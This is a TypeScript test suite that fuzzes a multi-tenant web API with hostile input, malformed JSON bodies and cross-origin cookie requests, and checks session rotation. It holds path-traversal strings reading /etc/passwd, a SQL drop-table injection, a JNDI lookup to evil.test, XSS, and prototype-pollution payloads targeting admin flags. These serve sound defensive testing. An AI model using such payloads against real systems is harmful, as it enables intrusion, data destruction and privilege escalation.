// Every route of the table under hostile input, the texts that readers of JSON disagree on, and what a cookie may be sent with.
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { beforeAll, describe, expect, it } from 'vitest'
import { routes, routeSpec, type RouteName } from '#app/api/routes'
import { PUT as changePassword } from '#app/api/v1/me/password/route'
import { GET as me } from '#app/api/v1/me/route'
import { POST as stepUp } from '#app/api/v1/sessions/current/authentications/route'
import { GET as listMembers } from '#app/api/v1/tenants/[tenant]/members/route'
import { POST as promote } from '#app/api/v1/tenants/[tenant]/promotions/route'
import { ensureFirstAdmin } from '#lib/access/commands/ensure-first-admin'
import { roles } from '#lib/access/permissions'
import { sealSession } from '#lib/access/commands/session-cookie'
import type { TenantRef } from '#lib/platform/context'
import { newId } from '#lib/platform/id'
import { useTestDatabase } from '#lib/testing/database'
import { asPlatform, makeApplication, makePerson, makeTenant, type Person } from '#lib/testing/factories'
import { bearerOf, callRoute, type RouteAnswer, type RouteHandler } from '#lib/testing/http'
import { expectRefusal } from '#lib/testing/refusals'
import { makeRelease } from '#lib/testing/releases'

useTestDatabase()

let tenant: TenantRef
let everybody: Person
/** Refusals of one person beyond sixty in a minute are counted and not listed, so these have their own. */
let clerk: Person
let browser: Person
let root: string
const password = 'a long enough password'

beforeAll(async () => {
  tenant = await makeTenant({ slug: 'northwind' })
  await makeTenant({ slug: 'victim' })
  root = (await ensureFirstAdmin({ email: 'root@northwind.test', password })).userId
  everybody = await makePerson({ tenant, roles: [...roles], isPlatformAdmin: true })
  clerk = await makePerson({ tenant, roles: [...roles] })
  browser = await makePerson({ tenant, roles: [...roles] })
  const application = await makeApplication(tenant, 'orders')
  await makeRelease(tenant, application, 'v1.0.0')
  await bearerOf(everybody)
})

async function handlerOf(name: RouteName): Promise<RouteHandler> {
  const [method = '', path = ''] = name.split(' ')
  const file = join(import.meta.dirname, path.replace('/api/v1/', '').replaceAll(/\{(\w+)\}/g, '[$1]'), 'route.ts')
  return ((await import(file)) as Record<string, RouteHandler>)[method] as RouteHandler
}

/** Values that get past the first look, so that the hostile one is judged by whoever uses it and not by a missing neighbour. */
const sound: Record<string, unknown> = {
  application: 'orders',
  environment: 'dev',
  release: 'v1.0.0',
  component: 'app',
  name: 'A name',
  slug: 'fresh-one',
  reason: 'because',
  kind: 'deploy',
  gate: 'order',
  endsAt: new Date(Date.now() + 3_600_000).toISOString(),
  planDigest: `sha256:${'0'.repeat(64)}`,
  roles: ['viewer'],
  verbs: ['tenant.read'],
  email: 'somebody@northwind.test',
  tier: 'LOW',
  q: 'x',
  spec: {},
  document: {},
  expected: 0,
}

const hostile: Record<string, unknown> = {
  nothing: '',
  'U+0000': 'a\0b',
  'half a surrogate pair': 'a\ud800b',
  'a text of 100,000 characters': 'x'.repeat(100_000),
  'a path': '../../../../etc/passwd',
  'an encoded path': '..%2f..%252e%252e%c0%af',
  'a file of the CLI': '@/etc/passwd',
  SQL: `'; drop table tenant; --`,
  wildcards: '%_\\',
  'a template': '${jndi:ldap://evil.test/x}{{7*7}}<%= 1 %>',
  markup: '<script>alert(1)</script>',
  'control characters': '\u001b[2J\r\n\u202e\u200b',
  'a name of a prototype': '__proto__',
  constructor: 'constructor',
  'a huge number': 1e308,
  'beyond 2^53': 2 ** 53 + 2,
  'beyond int4': 2147483648,
  'below nothing': -1,
  half: 1.5,
  yes: true,
  null: null,
  'a list': ['a', ['b']],
  'an operator': { not: '' },
  'a deep operator': { startsWith: 'x', AND: [{ id: { contains: '' } }] },
  'another year': '9999-12-31T23:59:59Z',
}

const textOf = (value: unknown) => (typeof value === 'string' ? value : JSON.stringify(value))

async function ask(name: RouteName, field: string, value: unknown): Promise<RouteAnswer | undefined> {
  const [method = '', path = ''] = name.split(' ')
  const keys = [...path.matchAll(/\{(\w+)\}/g)].map(([, key]) => key ?? '')
  const inQuery = method === 'GET' || method === 'DELETE'
  const isText = typeof value === 'string'
  // What no address can carry is no attack on this one.
  if ((inQuery || keys.includes(field)) && (!isText || !value.isWellFormed())) return undefined
  const all: Record<string, unknown> = { ...sound, tenant: tenant.slug, slug: path.includes('/platform/') ? 'victim' : sound['slug'], [field]: value }
  const params = Object.fromEntries(keys.map((key) => [key, textOf(all[key] ?? 'none-such')]))
  const fields = Object.keys(routeSpec(name).input.shape).filter((key) => !keys.includes(key) && (key === field || Object.hasOwn(sound, key)))
  const sent = Object.fromEntries(fields.map((key) => [key, all[key]]))
  const payload = inQuery ? { query: Object.fromEntries(Object.entries(sent).map(([key, one]) => [key, textOf(one)])) } : { body: sent }
  return callRoute(await handlerOf(name), { method, path, params, as: everybody, ...payload })
}

describe('hostile input', () => {
  // What ends the one who asks, or hashes a password for each try, is asked elsewhere.
  const apart = /sessions|password|acceptances|suspension|DELETE .*members|PATCH .*members/
  const names = (Object.keys(routes) as RouteName[]).filter((name) => routeSpec(name).servedBy !== 'http' && !apart.test(name))

  it('S-14, S-27: is no fault in any field of any route, and is repeated in no answer beyond a few words', { timeout: 240_000 }, async () => {
    const faults: string[] = []
    for (const name of names) {
      const inPath = [...name.matchAll(/\{(\w+)\}/g)].map(([, key]) => key ?? '')
      for (const field of new Set([...inPath, ...Object.keys(routeSpec(name).input.shape)])) {
        const answers = await Promise.all(Object.entries(hostile).map(async ([what, value]) => ({ what, answer: await ask(name, field, value) })))
        for (const { what, answer } of answers) {
          const words = JSON.stringify(answer?.body ?? '')
          const isFault =
            answer !== undefined && (answer.status >= 500 || (answer.status >= 400 && words.length > 20_000) || words.includes('\\u0000'))
          if (isFault) faults.push(`${name} ${field} = ${what}: ${answer.status} ${words.slice(0, 200)}`)
        }
      }
    }
    expect(faults).toEqual([])
  })

  it('S-01: climbs nowhere from an address, however it is written', async () => {
    const listed = (slug: string) => callRoute(listMembers, { path: '/api/v1/tenants/{tenant}/members', params: { tenant: slug }, as: everybody })
    for (const slug of [
      '..',
      '%2e%2e',
      '../northwind',
      'northwind/../victim',
      'NORTHWIND',
      'northwind.',
      ' northwind',
      'northwind\u0000',
      'nоrthwind',
      'x'.repeat(10_000),
    ]) {
      const answer = await listed(slug)
      expect([slug.slice(0, 30), answer.status]).toEqual([slug.slice(0, 30), expect.toBeOneOf([400, 404])])
      expect(JSON.stringify(answer.body).length).toBeLessThan(1000)
    }
  })
})

const sendRaw =
  (body: BodyInit, headers: Record<string, string> = {}) =>
  async (): Promise<RouteAnswer> => {
    const request = new Request('http://caisson.test/api/v1/tenants/northwind/promotions', {
      method: 'POST',
      body,
      headers: { host: 'caisson.test', 'content-type': 'application/json', authorization: `Bearer ${await bearerOf(clerk)}`, ...headers },
    })
    const response = await (promote as RouteHandler)(request, { params: Promise.resolve({ tenant: 'northwind' }) })
    return { status: response.status, body: await response.json(), headers: response.headers }
  }

describe('S-27: a body is refused that', () => {
  const good = '"application":"orders","environment":"dev","release":"v1.0.0"'
  const bodies: [what: string, body: BodyInit, words: RegExp, headers?: Record<string, string>][] = [
    ['is cut off', `{${good}`, /not well-formed JSON/],
    ['is a list', '[]', /not a JSON object/],
    ['is null', 'null', /not a JSON object/],
    ['is two objects', `{${good}}{}`, /not well-formed JSON/],
    ['says a thing twice', `{${good},"release":"v1.0.0"}`, /"release" twice/],
    ['says a thing twice, once escaped', `{${good},"rel\\u0065ase":"v1.0.0"}`, /"release" twice/],
    ['says a thing twice, deep inside', `{${good},"x":[{"y":1,"y":2}]}`, /"y" twice/],
    ['is nested 33 levels', `{"x":${'['.repeat(32)}${']'.repeat(32)}}`, /deeper than 32 levels/],
    ['is nested 100,000 levels', `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, /deeper than 32 levels/],
    ['opens 500,000 brackets', '['.repeat(500_000), /not well-formed JSON/],
    ['opens a string and escapes on', `{"x":"${'\\"'.repeat(400_000)}`, /not well-formed JSON/],
    ['has 6,000 names', `{${Array.from({ length: 6000 }, (_, n) => `"k${n}":0`).join(',')}}`, /more than 5000 names/],
    ['has U+0000', `{${good},"note":"a\\u0000b"}`, /U\+0000/],
    ['has U+0000 in a name', `{${good},"a\\u0000b":1}`, /U\+0000/],
    ['has half a surrogate pair', `{${good},"note":"\\ud83d"}`, /surrogate/],
    ['has the halves the wrong way round', `{${good},"note":"\\udc00\\ud800"}`, /surrogate/],
    ['is not UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), /not well-formed JSON/],
    ['is UTF-16', Buffer.from(`{${good}}`, 'utf16le'), /not well-formed JSON/],
    ['is compressed', gzipSync(`{${good}}`), /not well-formed JSON/, { 'content-encoding': 'gzip' }],
    ['would reach a prototype', `{${good},"__proto__":{"isPlatformAdmin":true}}`, /__proto__|understood/],
    ['would reach a constructor', `{${good},"constructor":{"prototype":{"roles":["sre"]}}}`, /constructor/],
    ['names its tenant', `{${good},"tenant":"victim"}`, /tenant/],
    ['names a column', `{${good},"tenantId":"x","isPlatformAdmin":true}`, /tenantId/],
    ['is a form', `application=orders`, /not JSON/, { 'content-type': 'application/x-www-form-urlencoded' }],
    ['is plain text', `{${good}}`, /not JSON/, { 'content-type': 'text/plain;charset=UTF-8' }],
    ['is a kind of JSON that it is not', `{${good}}`, /not JSON/, { 'content-type': 'application/json-seq' }],
    ['says no type', `{${good}}`, /not JSON/, { 'content-type': '' }],
  ]
  for (const [what, body, words, headers] of bodies) {
    it(what, async () => {
      const answer = await expectRefusal({ code: 'invalid_input', words, fix: /\w/ }, sendRaw(body, headers))
      expect(({} as Record<string, unknown>)['isPlatformAdmin']).toBeUndefined()
      expect(JSON.stringify(answer.body).length).toBeLessThan(2000)
    })
  }

  it('is larger than 1 MiB', async () => {
    await expectRefusal({ code: 'too_large', words: /larger than 1 MiB/ }, sendRaw(`{"x":"${'x'.repeat(1024 * 1024)}"}`))
  })

  it('comes with a query that says a thing twice', async () => {
    const { GET } = (await import('#app/api/v1/tenants/[tenant]/releases/route')) as { GET: RouteHandler }
    const headers = { authorization: `Bearer ${await bearerOf(clerk)}` }
    const request = new Request('http://caisson.test/api/v1/tenants/northwind/releases?application=orders&application=mail', { headers })
    const twice = async () => {
      const response = await GET(request, { params: Promise.resolve({ tenant: 'northwind' }) })
      return { status: response.status, body: await response.json(), headers: response.headers }
    }
    await expectRefusal({ code: 'invalid_input', words: /"application" twice/ }, twice)
  })
})

async function browserOf(person: { id: string }): Promise<{ sessionId: string; cookie: string }> {
  const session = { id: newId(), userId: person.id, expiresAt: new Date(Date.now() + 3_600_000) }
  await asPlatform((tx) => tx.session.create({ data: session, select: { id: true } }))
  return { sessionId: session.id, cookie: pairOf(await sealSession({ sessionId: session.id, expiresAt: session.expiresAt })) }
}

const pairOf = (setCookie: string) => setCookie.slice(0, setCookie.indexOf(';'))

describe('S-10: a cookie', () => {
  const own = 'http://caisson.test'
  const send = (cookie: string, headers: Record<string, string>) =>
    callRoute(promote, {
      method: 'POST',
      path: '/api/v1/tenants/{tenant}/promotions',
      params: { tenant: 'northwind' },
      headers: { cookie, ...headers },
      body: { application: 'none', environment: 'dev', release: 'v1.0.0' },
    })

  it('changes nothing for a page of another origin, for one without an origin, nor for what is no page', async () => {
    const { cookie } = await browserOf(browser)
    const refused = { code: 'forbidden', words: /does not come from a page of this installation/, fix: /API token/ } as const
    const foreign: Record<string, string>[] = [
      {},
      { origin: 'null' },
      { origin: '' },
      { origin: 'http://evil.test' },
      { origin: 'http://caisson.test:8080' },
      { origin: 'http://caisson.test.evil.test' },
      { origin: 'http://caisson.test@evil.test' },
      { origin: 'evil://caisson' },
      { origin: `${own} http://evil.test` },
      { 'sec-fetch-site': 'none', referer: `${own}/` },
    ]
    for (const headers of foreign) await expectRefusal(refused, () => send(cookie, headers))
    expect(await send(cookie, { origin: own })).toMatchObject({ status: 404, body: { code: 'not_found' } })
  })

  it('S-26: tells nothing to a script of another origin either, and lets a person follow a link', async () => {
    const { cookie } = await browserOf(browser)
    const read = (headers: Record<string, string>) => callRoute(me, { path: '/api/v1/me', headers: { cookie, ...headers } })
    const elsewhere: Record<string, string>[] = [
      { origin: 'http://evil.test' },
      { origin: 'null' },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors' },
    ]
    for (const headers of elsewhere) expect([headers, (await read(headers)).status]).toEqual([headers, 403])
    const own_: Record<string, string>[] = [
      {},
      { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors' },
      { origin: own },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' },
    ]
    for (const headers of own_) expect([headers, (await read(headers)).status]).toEqual([headers, 200])
  })

  it('S-35: is another one after the password was typed again, and the old one is worth nothing', async () => {
    const first = await browserOf({ id: root })
    const known = async (cookie: string) => (await callRoute(me, { path: '/api/v1/me', headers: { cookie } })).status
    const renew = (cookie: string, path: 'stepUp' | 'password') =>
      path === 'stepUp'
        ? callRoute(stepUp, {
            method: 'POST',
            path: '/api/v1/sessions/current/authentications',
            headers: { cookie, origin: own },
            body: { password },
          })
        : callRoute(changePassword, {
            method: 'PUT',
            path: '/api/v1/me/password',
            headers: { cookie, origin: own },
            body: { currentPassword: password, newPassword: 'another long password' },
          })
    let cookie = first.cookie
    for (const way of ['stepUp', 'password'] as const) {
      const answer = await renew(cookie, way)
      const set = answer.headers.get('set-cookie') ?? ''
      expect(set).toMatch(/^next-auth\.session-token=[^;]+; Path=\/; Expires=[^;]+; HttpOnly; SameSite=Lax$/)
      expect([way, pairOf(set) === cookie, await known(cookie), await known(pairOf(set))]).toEqual([way, false, 401, 200])
      cookie = pairOf(set)
    }
    const sessions = await asPlatform((tx) => tx.session.findMany({ where: { userId: root } }))
    expect(sessions.filter(({ revokedAt }) => revokedAt === null)).toHaveLength(1)
    // It lives no longer than the one it follows.
    expect(new Set(sessions.map(({ expiresAt }) => expiresAt.getTime())).size).toBe(1)
    process.env['CAISSON_URL'] = 'https://caisson.northwind.test'
    try {
      const sealed = await sealSession({ sessionId: newId(), expiresAt: new Date(Date.now() + 1000) })
      expect(sealed).toMatch(/^__Host-next-auth\.session-token=[^;]+; Path=\/; Expires=[^;]+; HttpOnly; SameSite=Lax; Secure$/)
    } finally {
      delete process.env['CAISSON_URL']
    }
  })
})
